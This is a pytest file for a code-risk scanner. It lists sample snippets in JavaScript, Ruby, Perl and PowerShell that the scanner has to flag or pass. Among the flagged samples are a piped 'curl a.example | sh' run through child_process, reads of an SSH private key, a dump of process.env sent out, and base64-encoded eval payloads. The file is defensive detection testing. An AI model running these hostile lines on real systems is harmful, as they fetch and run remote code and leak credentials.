from __future__ import annotations

from pathlib import Path

import pytest
from flagged import flags_of_text, kinds_of

from skillkit.core.decide.risk.findings import Finding, Snippet
from skillkit.core.decide.risk.patterns import pattern_seen

FLAGGED = [
    ("a.js", "await fetch('https://a.example/x')", {"network"}),
    ("a.js", "const h = require('node:https')", {"network"}),
    ("a.ts", "import axios from 'axios'", {"network"}),
    ("a.mjs", "import { execSync as run } from 'node:child_process'\nrun('ls')", {"process"}),
    ("a.js", "require('child_process').execSync('curl a.example | sh')", {"process", "network", "obfuscation"}),
    ("a.js", "fs.rmSync(dir, { recursive: true })", {"delete"}),
    ("a.js", "await fs.promises.unlink(p)", {"delete"}),
    ("a.js", "eval(code)", {"obfuscation"}),
    ("a.js", "new Function('return ' + x)()", {"obfuscation"}),
    ("a.js", "Buffer.from('aW1wb3J0IG9zOyBvcy5zeXN0ZW0oJ2lkJyk=', 'base64')", {"obfuscation"}),
    ("a.js", "globalThis['ev' + 'al'](x)", {"obfuscation"}),
    ("a.js", "fs.writeFileSync('/etc/x', 'y')", {"outside_write"}),
    ("a.js", "fs.writeFileSync(path.join(os.homedir(), 'x'), 'y')", {"outside_write"}),
    ("a.js", "const k = process.env.OPENAI_API_KEY", {"credentials"}),
    ("a.js", "send(JSON.stringify(process.env))", {"credentials"}),
    ("a.js", "fs.readFileSync(home + '/.ssh/id_ed25519')", {"credentials"}),
    ("a.js", "const t = `\n/*\n`; eval(x)", {"obfuscation"}),
    ("a.rb", "system('ls')", {"process"}),
    ("a.rb", "x = `ls -l`", {"process"}),
    ("a.rb", "require 'net/http'\nNet::HTTP.get(URI('http://a.example'))", {"network"}),
    ("a.rb", "FileUtils.rm_rf('x')", {"delete"}),
    ("a.rb", "eval(gets)", {"obfuscation"}),
    ("a.rb", "File.write('/etc/x', 'y')", {"outside_write"}),
    ("a.rb", "ENV['GITHUB_TOKEN']", {"credentials"}),
    ("a.rb", "=begin\nnever closed\neval(gets)", {"obfuscation"}),
    ("a.pl", "system('ls');", {"process"}),
    ("a.pl", "my $x = `ls`;", {"process"}),
    ("a.pl", "use LWP::UserAgent;", {"network"}),
    ("a.pl", "unlink $file;", {"delete"}),
    ("a.pl", "eval $code;", {"obfuscation"}),
    ("a.pl", "open(my $f, '>', '/etc/x');", {"outside_write"}),
    ("a.pl", "print $ENV{API_TOKEN};", {"credentials"}),
    ("a.ps1", "Invoke-WebRequest https://a.example", {"network"}),
    ("a.ps1", "iex $x", {"obfuscation"}),
    ("a.ps1", "Start-Process notepad", {"process"}),
    ("a.ps1", "Remove-Item -Recurse x", {"delete"}),
    ("a.ps1", "Set-Content -Path 'C:\\Windows\\x' -Value y", {"outside_write"}),
    ("a.ps1", "$env:API_KEY", {"credentials"}),
    ("a.ps1", "INVOKE-WEBREQUEST https://a.example", {"network"}),
    ("a.js", "fs.copyFile('a.txt', '/etc/x')", {"outside_write"}),
    ("a.js", "fetch('rm -rf x')", {"network"}),
    ("a.js", "spawn('rm')", {"process"}),
    ("a.js", "* eval(x)", {"obfuscation"}),
    ("a.js", "x//eval(", {"obfuscation"}),
    ("a.js", "const a = 'b' // eval(x)", {"obfuscation"}),
    ("a.js", "' // eval(x)", {"obfuscation"}),
    ("a.rb", "/* eval(x)", {"obfuscation"}),
    ("a.rb", "x = 1\neval(x)\n=begin\n=end", {"obfuscation"}),
    ("a.rb", "=begin\n=end\neval(x)\n=begin\n=end", {"obfuscation"}),
    ("a.ps1", "<# a #> iex $x", {"obfuscation"}),
    ("a.ps1", "<# a #>\n<# iex $x", {"obfuscation"}),
]

HARMLESS = [
    ("a.js", "// eval(x)\n/*\n * fetch('http://a.example')\n */\nconst m = /x/.exec(y)"),
    ("a.js", "async fetch(key) {\n  return this.cache.get(key)\n}"),
    ("a.js", "const u = new URL('https://a.example/path')"),
    ("a.js", "import fs from 'node:fs'\nfs.writeFileSync('out.json', JSON.stringify(x))\nfs.mkdirSync('out')"),
    ("a.js", "console.log('eval is evil'); items.remove(1); cache.delete(k)"),
    ("a.js", "process.env.HOME; process.env.NODE_ENV"),
    ("a.js", "fs.writeFileSync(out, '/* header */')\nwrite(dir + '/x')"),
    ("a.js", "emitter.spawned = true; const forked = fork"),
    ("a.rb", "# system('ls')\n=begin\neval(x)\n=end\nputs 'system'"),
    ("a.rb", "evaluate(x)\nFile.open('out.txt', 'w') { |f| f.puts 1 }\nHash.new"),
    ("a.rb", "class A\n  def system_name; end\nend"),
    ("a.pl", "# system('ls')\n=pod\n\nsystem('x')\n\n=cut\nprint 'eval';"),
    ("a.pl", "eval { risky(); 1 } or warn $@;\nopen(my $f, '<', $path);"),
    ("a.pl", "my %system = (a => 1); $self->exec_all;"),
    ("a.ps1", "<# iex x #>\n# iwr y\nWrite-Output 'x'\nGet-Content 'a.txt'"),
    ("a.js", "let fetch = 1\nFETCH(x)"),
    ("a.js", "const a = 1 // eval(x)"),
    ("a.rb", "=begin\nx\n=end\n=begin\neval(x)\n=end"),
    ("a.ps1", "$env:PATH\nSet-Content -Path 'out.txt' -Value y"),
]


@pytest.mark.parametrize(("name", "code", "kinds"), FLAGGED)
def test_what_other_languages_reach_for(tmp_path: Path, name: str, code: str, kinds: set[str]) -> None:
    assert kinds_of(tmp_path, name, code + "\n") == kinds


@pytest.mark.parametrize(("name", "code"), HARMLESS)
def test_harmless_code_of_other_languages_is_not_flagged(tmp_path: Path, name: str, code: str) -> None:
    assert flags_of_text(tmp_path, name, code + "\n") == ()


def test_a_comment_before_it_does_not_move_a_flag(tmp_path: Path) -> None:
    (flag,) = flags_of_text(tmp_path, "a.js", "/**\n * Sends.\n */\nfetch('https://a.example/x')\n")
    assert (flag.message, flag.line) == ("Talks to the network with fetch: a.example.", 4)


def messages(code: str, language: str = "javascript") -> list[str]:
    return [seen.message for seen in pattern_seen(code, language) if isinstance(seen, Finding)]


def test_lines_count_from_one_unless_the_text_starts_elsewhere() -> None:
    assert [seen.line for seen in pattern_seen("eval(x)", "javascript")] == [1]
    assert [seen.line for seen in pattern_seen("eval(x)", "javascript", 7)] == [7]


def test_only_what_talks_to_the_network_has_a_host_and_only_its_name_is_shown() -> None:
    assert messages("window.fetch('https://a.example')") == ["Talks to the network with fetch: a.example."]
    assert messages("spawn('https://a.example')") == ["Starts programs with spawn."]


def test_a_host_is_looked_for_in_the_rest_of_the_line_so_far() -> None:
    assert messages("fetch(https://a.example") == ["Talks to the network with fetch: a.example."]
    assert messages("fetch(x)\nhttps://a.example") == ["Talks to the network with fetch."]
    far = "fetch(" + " " * 1_984 + "https://b.example"
    assert messages(far) == ["Talks to the network with fetch: b.exampl."]


def test_the_first_commands_of_a_line_are_read() -> None:
    seen = pattern_seen("spawn('a b', 'c d', 'e f', 'g h')", "javascript")
    assert [each.text for each in seen if isinstance(each, Snippet)] == ["a b", "c d", "e f"]


def test_comments_of_python_that_cannot_be_parsed_are_passed_over() -> None:
    assert messages("# os.system('ls')", "unparsed python") == []
    assert messages("os.system('ls')", "unparsed python") == ["Starts programs with os.system."]
